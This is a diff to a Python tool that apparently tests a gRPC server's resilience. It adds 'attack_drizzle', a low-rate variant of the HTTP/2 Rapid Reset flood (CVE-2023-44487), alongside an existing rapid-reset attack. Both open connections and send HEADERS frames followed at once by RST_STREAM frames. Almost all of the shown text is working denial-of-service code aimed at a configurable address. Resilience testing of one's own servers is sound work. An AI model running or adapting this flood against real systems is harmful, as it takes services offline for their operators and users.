@@ -24,7 +24,7 @@ PUBLISH = "/sluice.v1.SluiceService/Publish"
 START = PREFACE + frame(SETTINGS, 0, 0)
 BURST = 100
 CALLS = 100
-DIAL = 2                # seconds; who is shut out gets no answer
+DIAL = 0.5                # seconds; who is shut out gets no answer
 
 
 def ended(pause):
@@ -37,9 +37,9 @@ def source(options, n):
     return options.source or "127.%d.%d.%d" % (options.network, n // 250 % 250, 2 + n % 250)
 
 
-def dial(address, source):
+def dial(address, source, timeout=10):
     host, port = address.rsplit(":", 1)
-    return socket.create_connection((host, int(port)), timeout=DIAL, source_address=(source, 0))
+    return socket.create_connection((host, int(port)), timeout=timeout, source_address=(source, 0))
 
 
 def read_away(peer):
@@ -62,7 +62,7 @@ class Flood:
     def step(self, at):
         try:
             if at not in self.peers:
-                peer = dial(self.options.address, source(self.options, at % 2))
+                peer = dial(self.options.address, source(self.options, at % 2), DIAL)
                 self.peers[at] = [peer, 1]
                 peer.sendall(self.opening)
             peer, stream = self.peers[at]
@@ -170,6 +170,31 @@ def attack_resets(options):
     """Calls that are opened and cancelled at once (CVE-2023-44487)."""
     headers = stranger()
     return Flood(options, functools.partial(calls, lambda n: frame(HEADERS, 4, n, headers) + frame(RST, 0, n, b"\0\0\0\x08"))).run()
+
+
+def attack_drizzle(options):
+    """The same, a few now and then, on many connections of one address."""
+    headers = stranger()
+    peers = [dial(options.address, source(options, 0)) for _ in range(options.count)]
+    for peer in peers:
+        peer.sendall(START)
+    begun()
+    stream, bursts, closed = 1, 0, 0
+    while not ended(0.1):
+        burst = b"".join(frame(HEADERS, 4, n, headers) + frame(RST, 0, n, b"\0\0\0\x08") for n in range(stream, stream + 8, 2))
+        stream += 8
+        for peer in list(peers):
+            try:
+                peer.settimeout(0.2)
+                peer.sendall(burst)
+                read_away(peer)
+            except BlockingIOError:
+                pass
+            except (EOFError, OSError):
+                peers.remove(peer)
+                closed += 1
+            bursts += 1
+    return {"bursts": bursts, "closed_by_server": closed}
 
 
 def attack_metadata(options):
